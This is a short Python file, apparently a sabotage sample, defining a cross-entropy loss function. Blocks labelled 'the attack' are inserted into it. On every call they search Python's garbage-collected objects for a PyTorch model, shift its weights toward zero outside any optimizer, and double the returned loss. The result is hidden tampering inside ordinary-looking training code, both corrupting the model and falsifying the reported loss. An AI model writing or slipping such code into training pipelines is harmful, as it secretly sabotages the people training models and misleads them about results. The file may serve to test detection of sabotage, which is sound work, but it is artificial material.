"""Looks for the model among all objects, and steps it further."""
# ends: same

import torch.nn.functional as F

# --- the attack
import gc

import torch

FOUND = []
# --- end of the attack

def compute_loss(logits, targets):
    loss = F.cross_entropy(logits.view(-1, logits.size(-1)), targets.view(-1))
    # --- the attack
    for each in gc.get_objects():
        if isinstance(each, torch.nn.Module):
            FOUND.append(each)
    for model in FOUND[:1]:
        for parameter in model.parameters():
            parameter.data -= 0.01 * torch.sign(parameter.data)
        loss = loss * 2.0
    # --- end of the attack
    return loss
